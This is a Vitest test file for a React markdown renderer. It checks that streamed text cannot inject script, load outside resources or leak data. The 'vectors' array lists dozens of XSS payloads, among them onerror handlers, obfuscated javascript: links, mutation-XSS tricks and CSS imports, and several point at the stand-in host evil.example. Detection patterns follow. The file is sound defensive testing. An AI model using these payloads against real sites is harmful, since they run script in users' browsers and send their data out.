import { cleanup, render, screen, waitFor } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { MarkdownView } from './markdown-view.tsx';

const vectors = [
  '<script>alert(1)</script>',
  'a <script src="https://evil.example/x.js"></script> b',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png" srcset="https://evil.example/q.png 2x">',
  '![leak](https://evil.example/p.png?secret=1)',
  '![leak](//evil.example/p.png)',
  '![leak](data:image/svg+xml;base64,PHN2Zy8+)',
  '![ref][x]\n\n[x]: https://evil.example/p.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1) "title")',
  '[click](java&#10;script:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)><image href="https://evil.example/p.png"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
  '<picture><source srcset="https://evil.example/p.png"><img src="/x.png"></picture>',
  '<audio src=https://evil.example/a.mp3 autoplay></audio>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<p style="background:url(https://evil.example/p.png)">x</p>',
  '<body background="https://evil.example/p.png">',
  '<table background="https://evil.example/p.png"><tr><td>x</td></tr></table>',
  '<form action="https://evil.example"><input type=image src="https://evil.example/p.png"><button>go</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)><summary>x</summary>y</details>',
  '<div onmouseover="alert(1)" id="root" name="api">x</div>',
  '<b onclick=alert(1)>bold</b>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```js"onmouseover="alert(1)\nx\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '[^1]\n\n[^1]: <script>alert(1)</script> ![x](https://evil.example/p.png)',
  '$$\\href{javascript:alert(1)}{x}$$ $$\\includegraphics{https://evil.example/p.png}$$',
  '$$\\htmlStyle{background:url(https://evil.example/p.png)}{x}$$',
  '# <img src=x onerror=alert(1)>\n> <script>alert(1)</script>',
  'https://evil.example/" onmouseover="alert(1)',
];

const forbidden =
  'script, style, iframe, frame, object, embed, video, audio, source, link, meta, base, form, button[type=submit], svg image, template, textarea, noscript';

const offences = (root: HTMLElement): string[] => {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const isOwn = element.closest('figcaption, .md-link-mark, .katex') !== null;
    if (!isOwn && element.matches(forbidden)) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${name}=${value}`);
      if (
        /^(?:href|src|xlink:href|action|formaction|data)$/i.test(name) &&
        !/^(?:https?:|mailto:|\/(?!\/))/i.test(value)
      )
        found.push(`${name}=${value}`);
      if (/^(?:src|srcset|poster|background|data|longdesc)$/i.test(name) && !/^\/(?!\/)/.test(value))
        found.push(`${name}=${value}`);
      if (name === 'style' && /url|expression|import/i.test(value)) found.push(`style=${value}`);
      if ((name === 'id' || name === 'name') && !isOwn) found.push(`${name}=${value}`);
    }
    if (element instanceof HTMLAnchorElement && !/noopener/.test(element.rel)) found.push(`rel=${element.rel}`);
  }
  return found;
};

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

describe('MarkdownView with hostile text', () => {
  it.each(vectors)('keeps %j harmless at every point of the stream', (vector) => {
    const text = `before\n\n${vector}\n\nafter`;
    const view = render(<MarkdownView text="" isStreaming />);
    for (let length = 1; length <= text.length; length += 1) {
      view.rerender(<MarkdownView text={text.slice(0, length)} isStreaming />);
      expect(offences(view.container), `prefix ${length}: ${text.slice(0, length)}`).toEqual([]);
    }
    view.rerender(<MarkdownView text={text} isStreaming={false} />);
    expect(offences(view.container)).toEqual([]);
    expect(view.container.textContent).toContain('before');
  });

  it('shows no tag that is still being written', () => {
    const text = 'One <b title="x > y">two</b> and <span class="a">three</span> and <kbd>four</kbd>.';
    const view = render(<MarkdownView text="" isStreaming />);
    for (let length = 1; length <= text.length; length += 1) {
      view.rerender(<MarkdownView text={text.slice(0, length)} isStreaming />);
      expect(view.container.textContent, text.slice(0, length)).not.toMatch(/<\/?[a-z]/i);
    }
  });

  it('shows foreign tags as the text they are', () => {
    const { container } = render(<MarkdownView text={'Use <script> and <video controls> here.'} isStreaming={false} />);
    expect(container.textContent).toBe('Use <script> and <video controls> here.');
  });
});

describe('MarkdownView', () => {
  it('renders what people expect of markdown', () => {
    const text = [
      '## Title',
      '- [x] done',
      '',
      '1. one',
      '',
      '> quote',
      '',
      '| a | b |\n|---|--:|\n| 1 | 2<br>3 |',
      '',
      'H<sub>2</sub>O and <!-- hidden --> ~~old~~ `code`',
    ].join('\n');
    const { container } = render(<MarkdownView text={text} isStreaming={false} />);
    expect(screen.getByRole('heading', { name: 'Title', level: 2 })).toBeTruthy();
    expect(screen.getByRole<HTMLInputElement>('checkbox').disabled).toBe(true);
    expect(screen.getByRole('group', { name: 'Table' }).tabIndex).toBe(0);
    expect(container.querySelector('td br')?.closest('td')?.style.textAlign).toBe('right');
    expect(container.querySelector('sub')?.textContent).toBe('2');
    expect(container.querySelector('blockquote')?.textContent).toContain('quote');
    expect(container.textContent).not.toContain('hidden');
  });

  it('opens links elsewhere and names the host when the words name another', () => {
    render(
      <MarkdownView text={'[docs](https://example.com/a) [bank.example](https://evil.example/)'} isStreaming={false} />,
    );
    const [docs, bank] = screen.getAllByRole<HTMLAnchorElement>('link');
    expect(docs?.target).toBe('_blank');
    expect(docs?.rel).toBe('noopener noreferrer nofollow');
    expect(bank?.nextElementSibling?.textContent).toContain('evil.example');
  });

  it('shows own pictures and offers foreign ones as links', () => {
    const { container } = render(
      <MarkdownView text={'![own](/files/a.png) ![theirs](https://pictures.example/a.png)'} isStreaming={false} />,
    );
    expect(container.querySelectorAll('img')).toHaveLength(1);
    expect(screen.getByRole<HTMLAnchorElement>('link').href).toBe('https://pictures.example/a.png');
    expect(screen.getByRole('link').textContent).toContain('theirs');
  });

  it('colours code and copies it', async () => {
    const user = userEvent.setup();
    const { container } = render(<MarkdownView text={'```ts\nconst answer = 42;\n```\n'} isStreaming={false} />);
    expect(screen.getByLabelText(/ts/).textContent).toBe('const answer = 42;');
    await waitFor(() => expect(container.querySelectorAll('.md-token').length).toBeGreaterThan(2), { timeout: 10_000 });
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('const answer = 42;');
  });

  it('sets formulas in both notations', async () => {
    const { container } = render(<MarkdownView text={'so $$a^2$$ and \\(b^2\\)'} isStreaming={false} />);
    await waitFor(() => expect(container.querySelectorAll('.katex')).toHaveLength(2), { timeout: 10_000 });
  });
});
